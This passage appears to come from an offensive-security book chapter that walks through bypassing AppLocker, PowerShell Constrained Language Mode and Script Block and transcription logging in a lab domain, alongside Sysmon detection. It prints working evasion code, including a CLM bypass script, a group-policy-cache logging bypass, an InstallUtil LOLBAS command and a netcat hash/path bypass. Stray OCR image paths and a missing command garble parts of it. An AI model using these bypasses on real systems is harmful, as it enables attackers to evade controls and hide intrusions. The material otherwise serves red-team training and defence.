CLM can be enforced via environment variables or by setting it through languagemode. However, these methods are not reliable and can be bypassed with almost no effort from the attacker. But with system-wide application control solutions, it can be used. The idea is that PowerShell will detect when the AppLocker policy is being enforced and will run only in CLM.

How robust are these protections?

We will deploy it in our sevenkingdoms.local lab domain. I advise you to take a snapshot before any change in the lab so we can quickly revert to the initial state if required. We will create an AppLocker group policy on DC01 and enforce it on theSRV01 server. If you have never deployed AppLocker, there is a friendly guide available[13]. The rule is straightforward – action, user, condition, and exceptions if required. By following the previously mentioned guide[13], we will create default rules and restrictions for users to run cmd.exe. One important caveat – if you are in the Administrators group, by default, AppLocker is not applied to your account. To check your current ruleset, we can use the following command:

Get-AppLockerPolicy -Effective | Select-Object RuleCollections -ExpandProperty RuleCollections

The new Deny_CMD rule can be seen in the following screenshot:

Figure 2.7 – Deny rule in AppLocker

Figure 2.7 – Deny rule in AppLocker

Moreover, as we enforced rules for scripts as well, PowerShell went down in CLM. It is easy to check using the following command:

Figure 2.8 – PowerShell CLM in action

Figure 2.8 – PowerShell CLM in actionThe robustness of these security features depends on the quality of the rules we are implementing. In AppLocker, we have Publisher, File Hash, and Path conditions. Let’s briefly discuss all of them and show some possible bypasses.

Path restrictions can be bypassed by evaluating trusted paths and copying our binary there; for example, there are plenty of subfolders inside C:\Windows, where the normal user can copy files. The File Hash deny rule can be bypassed by changing the binary with the known hash mentioned in the rule. Let’s bypass the first two conditions combined and execute nc64.exe on the host. I created the rule to block nc64.exe by its hash. We will first copy nc64.exe to the C:\Windows\System32\spool\drivers\color\ and then bypass the File Hash rule by changing the File Hash by adding an extra A at the end of the file. The result of the bypass is as follows:

Figure 2.9 – Path and hash rule bypass for nc.exe

Figure 2.9 – Path and hash rule bypass for nc.exe

The Publisher condition is much more difficult to bypass. The reason is that the application’s publisher signature and extended attributes will be checked. We cannot use self-signed certificates to bypass it, but we can abuse legitimate signed binaries, which have the extended functionality we need. There is a whole project with a list of such binaries at There are two well-illustrated blog posts about common LOLBAS abuse to bypass AppLocker using InstallUtil[14]and MSBuild[15]. In brief, we will use MSBuild.exe to compile and run our malicious code stored in an XML file; for example, with Windows APIs we can allocate memory, and copy and run our shellcode. Another method is to use InstallUtil to run our executable if it is located on the victim’s box:

C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false /U "C:\Windows\Tasks\my.exe"

But what if cmd.exe is locked down? Not a big deal! You create shortcuts of the required binaries, such as InstallUtil and csc, then manually change the target field value so that it stores the required command line to execute. It is still reliably working until the LOLBAS binaries are not blocked. The entire project with the AppLocker bypasses list is available on GitHub[16]. By evaluating them, we can assess how robust our rules are.

Speaking about CLM bypass, there are different ways to achieve Full Language Mode, such as spawn PowerShell such that it downgrades to version 2 (rarely installed these days), use rundll32.exe with PowerShlld.dll[17], or use bypasses such as a wrapper over InstallUtil[18] and function return value patching[19]. The last three projects will require obfuscation to evade Microsoft Defender nowadays. To read more about the process of finding bypasses, I recommend going through XPN’s great research, “AppLocker and CLM Bypass via COM”[20]. But let me show you one of my favourite bypasses by sp00ks that I recently found[21]. The following code sets the environment registry value in the HKCU hive (you donot need to be an administrator for that), creates a PowerShellprocess using WMI, and then sets the value back:

$CurrTemp = $env:temp
$CurrTmp = $env:tmp
$TEMPBypassPath = "C:\windows\temp"
$TMPBypassPath = "C:\windows\temp"
Set-ItemProperty -Path 'hkcu:\Environment' -Name Tmp -Value "$TEMPBypassPath"
Set-ItemProperty -Path 'hkcu:\Environment' -Name Temp -Value "$TMPBypassPath"
Invoke-WmiMethod -Class win32_process -Name create -ArgumentList "Powershell.exe"
sleep 5
#Set it back
Set-ItemProperty -Path 'hkcu:\Environment' -Name Tmp -Value $CurrTmp
Set-ItemProperty -Path 'hkcu:\Environment' -Name Temp -Value $CurrTemp

The result obtained by running the preceding command is as follows:Figure 2.10 – Example of CLM bypass

Figure 2.10 – Example of CLM bypass

As we mentioned at the beginning of the section, the best way to harden application control is to deploy Windows Defender Application Control (WDAC) together with AppLocker. One of the most powerful collections of rules is called AaronLocker[22], which can be deployed together with WDAC in your environment via Group Policy[23]. It is recommended to start monitoring your rulesets in audit mode, gradually fine-tuning them.

PowerShell Enhanced Logging and Sysmon

In this section, we are going to explore what Sysmon[24] is and how it can be used to detect attacker’s activities. Sysmon is a system service in Windows that we can install and use to log information about variousevents, including process creation, various file events, registry access, named pipes, and network connections. Logs stay in Windows Event Collection. Sysmon does not prevent any attacks or provide an analysis of the events. There are a few great projects that can help you get started with Sysmon. A great community guide is provided by TrustedSec[25], and we will use the Sysmon config created by SwiftOnSecurity[26] as it is one of the best high-quality event tracing templates. Two more projects that provide a variety of config files were created by Florian Roth[27] and Olaf Hartong[28].

Let’s install Sysmon, apply the configs from the preceding project, and start digging inside the logs. Installation is straightforward; only one command being run as administrator is required, which is as follows:

Sysmon64.exe -accepteula -i sysmonconfig-export.xml

The expected result is as follows:

Figure 2.11 – Sysmon installation

Figure 2.11 – Sysmon installation

Now, we are going to enable PowerShell Transcription, Script Block, and Module Logging. To enable them, I will use GroupPolicy Management on kingslanding.sevenkingdoms.local. I will create a separate GPO at Computer Configuration | Policies | Administrative Templates | Windows Components | Windows PowerShell. The settings can be seen in the following screenshot:

Figure 2.12 – Group Policies to enable PowerShell Logging

Figure 2.12 – Group Policies to enable PowerShell Logging

These logging features are intended to provide better visibility for defenders if PowerShell is expected to be used across the organization. Our first control is Script Block Logging, including Warning Logging of Suspicious Commands. There are known bypasses found by (the author of the C2 Covenant Framework) for ScriptBlock Logging[29] and Suspicious Commands Logging[30]. I just slightly modified the code to bypass AMSI and added a bit more visibility:$GroupPolicyField = [ref].Assembly.GetType('System.Management.Automation.Utils')."GetF`ie`ld"('cachedGro'+'upPolicySettings', 'N'+'onPu'+'blic,Static')
If ($GroupPolicyField) {
  $GroupPolicyCache = $GroupPolicyField.GetValue($null)
  $GroupPolicyCache['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptB'+'lockLogging'] | fl
  If ($GroupPolicyCache['ScriptB'+'lockLogging']) {$GroupPolicyCache['ScriptB'+'lockLogging']['EnableScriptB'+'lockLogging'] = 0
    $GroupPolicyCache['ScriptB'+'lockLogging']['EnableScriptBlockInvocationLogging'] = 0
  $val = [System.Collections.Generic.Dictionary[string,System.Object]]::new()
  $val.Add('EnableScriptB'+'lockLogging', 0)
  $val.Add('EnableScriptB'+'lockInvocationLogging', 0)
  $GroupPolicyCache['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptB'+'lockLogging'] = $val$GroupPolicyCache['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptB'+'lockLogging'] | fl

The result obtained from running the preceding command is as follows:

Figure 2.13 – PowerShell Script Block Logging bypass

Figure 2.13 – PowerShell Script Block Logging bypass

One point to consider is that our bypass will still be logged until we disable Event Tracing for Windows (ETW) for the current PowerShell session first. This can be done using the following command:


We can also obfuscate this command to bypass Suspicious ScriptBlock Logging. Do not rely much on obfuscation as an experienced blue team will de-obfuscate it with the help of a tool such as DeepBlue[31] and immediately launch the investigation. The good thing is that for this bypass, we do not needelevated privileges and only manipulate cached values from Group Policy, so no modification on the host is required.

Two new PowerShell ScriptBlock and Module Logging bypasses were introduced by BC-security in their series of blog posts. The ScriptBlock bypass is based on the fact that the script block that has already been logged will be skipped if it is encountered a second time. The idea is to set the value of HasLogged to True before invoking the script. The purpose of the Module Logging bypass was to create a callable command that has no module or PowerShell snap-in associated with it[32]. Part 2 of the blog series showed how commands can be obfuscated to make the defender’s analysis more difficult[33]. Quick prevention recommendations against these bypasses will require the PowerShell Protect module[34].

However, if PowerShell Transcription is enabled, our activity will be still logged in to the file regardless of the preceding bypass. The reason is that even if we disable transcription in the active PowerShell session, it will continue the transcription and ignore the newly changed value. The original way to bypass was shown by Jann Lemm from Avantguard in his blog post[35]. The idea is to create a custom runspace, overwrite the value of EnableTranscripting, and then open the new runspace. Proof-of-concept code is available in the blogpost.But what if there is a tool that can help us to bypass everything with almost no manual effort? Well, please, welcome Invisi-Shell, written by Omer Yair. The tool hooks .NET assemblies via the CLR Profiler API, making PowerShell security controls blind. For more details, I highly encourage you to read the tools code[36] and watch the original talk presented by the author on DerbyCon. But keep in mind that the tool is quite old and is easily detected by most security solutions.

The most up-to-date tool to achieve all this was written by mgeeky and is called Stracciatella[37]. This tool is based on the SharpPick technique (launch PowerShell code from within a C# assembly using runspaces) with AMSI, ETW, and PowerShell Logging bypasses incorporated inside. Still, some AV evasion will be required.

Let’s say we achieved administrator privileges on the compromised box and decided to disable transcription by modifying the EnableTranscripting registry key, located in HKLM:\Software\Policies\Microsoft\Windows\PowerShell\Transcription. This can be done with the following PowerShell command running from an elevated shell:

Set-ItemProperty -Path HKLM:\Software\Policies\Microsoft\Windows\PowerShell\Transcription -Name  EnableTranscripting -Value 0

But let’s say we have a Sysmon rule, such as the following:

<TargetObject name="PowerShell Logging Changes" condition="begin with">HKLM\Software\Policies\Microsoft\Windows\PowerShell\</TargetObject>We will get an event that could potentially trigger an investigation:

Figure 2.14 – Sysmon detects registry change

Figure 2.14 – Sysmon detects registry change

Another good example of Sysmon detection is AMSI provider deletion via the registry, which will create event ID 13 in the log. All the providers havetheir unique keys. For example, Windows Defender has HKLM:\SOFTWARE\Microsoft\AMSI\Providers\{2781761E-28E0-4109-99FE-B9D127C57AFE}. Sysmon can provide much more from a detection perspective if you examine the published configuration files.

Another good example for Sysmon is network connection detection. Let’s try to run something like the following command:

SyncAppvPublishingServer.vbs "br; iwr"

Sysmon will detect activity, but not prevent the connection:

Figure 2.15 – Suspicious outbound connection detected by Sysmon

Figure 2.15 – Suspicious outbound connection detected by Sysmon

We are close to concluding this section, so let’s briefly go through the possible ways to find and tamper with Sysmon. A great guide was created by spotheplanet[38]. An adversary can check process and service names, evaluate registry keys for Sysmon Windows Events, and search for Sysmon configs and tools.

